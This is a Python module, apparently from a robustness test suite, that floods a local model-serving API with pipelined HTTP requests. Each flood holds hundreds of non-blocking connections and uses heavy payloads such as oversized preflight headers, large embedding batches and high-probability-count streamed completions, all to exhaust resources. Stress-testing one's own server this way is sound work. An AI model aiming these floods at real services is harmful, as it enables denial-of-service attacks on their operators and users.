"""Attacks of noisy_neighbor.py by requests that do not wait for the answers to those before."""
import resource
import selectors
import socket

from noisy_attacks import MODEL, encoded, raw_fields


def pipelined(request, connections):
    """Connections on which requests are sent as fast as they are taken, and all answers are read."""
    def run(port, seen, ended):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 2 * connections)), hard))
        raw = request() * (1 + (16 << 10) // len(request()))
        held = selectors.DefaultSelector()
        while not ended.is_set():
            if len(held.get_map()) < connections:
                client = socket.create_connection(("127.0.0.1", port), 10)
                client.setblocking(False)
                held.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [b""])
                seen["open"] += 1
            for key, events in held.select(0.01):
                try:
                    if events & selectors.EVENT_WRITE:
                        left = key.data[0] or raw
                        key.data[0] = left[key.fileobj.send(left):]
                    if events & selectors.EVENT_READ:
                        piece = key.fileobj.recv(1 << 18)
                        if piece.startswith(b"HTTP/1.1 "):
                            seen[int(piece[9:12])] += 1
                        if not piece:
                            raise ConnectionResetError
                except BlockingIOError:
                    pass
                except OSError:
                    seen["closed"] += 1
                    held.unregister(key.fileobj)
                    key.fileobj.close()
        for key in list(held.get_map().values()):
            key.fileobj.close()
    return run


def request_of(method, path, body=None, more=""):
    """Makes the bytes of a request: what it has of the attacker is known only when it is sent."""
    def make():
        raw = b"" if body is None else encoded(body)
        length = b"" if body is None else b"Content-Length: %d\r\n" % len(raw)
        head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{more}".encode()
        return head + raw_fields() + length + b"\r\n" + raw
    return make


PIPELINES = {
    "pipelined_heads": pipelined(request_of("HEAD", "/ui/vendor/highlight.mjs"), 400),
    "pipelined_preflights": pipelined(request_of("OPTIONS", "/api/chat", more="Origin: http://localhost\r\nAccess-Control-Request-Headers: "
                                                 + ",".join(f"{'x' * 100}{i}" for i in range(64)) + "\r\n"), 400),
    "busy_connections": pipelined(request_of("POST", "/api/show", {"model": MODEL, "verbose": True}), 1100),
    "encoded_replies": pipelined(request_of("POST", "/api/embed", {"model": MODEL, "input": ["a"] * 500}, "Accept-Encoding: gzip\r\n"), 100),
    "candidates": pipelined(request_of("POST", "/completion", {
        "model": MODEL, "prompt": "a", "n_probs": 1000, "n_predict": 250, "ignore_eos": True, "stream": True}), 64),
}
